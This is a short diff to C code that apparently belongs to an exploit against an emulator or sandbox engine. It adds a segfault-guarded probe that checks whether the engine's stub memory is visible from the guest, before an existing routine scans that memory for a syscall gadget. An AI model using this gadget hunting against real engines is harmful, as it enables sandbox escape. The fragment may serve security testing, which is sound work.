@@ -76,7 +76,24 @@ static int harmless(const unsigned char *p) {
   return p[0] == 0x48 && p[1] == 0x85 && p[2] == 0xc0;                                          // test %rax,%rax
 }
 
+static void unseen(int sig) {
+  (void)sig;
+  siglongjmp(back, 3);
+}
+
+// An engine may keep nothing in the guest's memory: then there is nothing to attack, and the attack says so.
+static void need_engine(void) {
+  if (sigsetjmp(back, 1) != 0) {
+    printf("nothing of the engine is in sight\n");
+    exit(0);
+  }
+  void (*before)(int) = signal(SIGSEGV, unseen);
+  (void)*(volatile const unsigned char *)STUB_TEXT;
+  signal(SIGSEGV, before);
+}
+
 static void find_gadget(void) {
+  need_engine();
   const unsigned char *p = (const unsigned char *)STUB_TEXT;
   for (int i = 0; i < 0x2000; i++) {
     if (p[i] == 0x0f && p[i + 1] == 0x05 && harmless(p + i + 2)) {
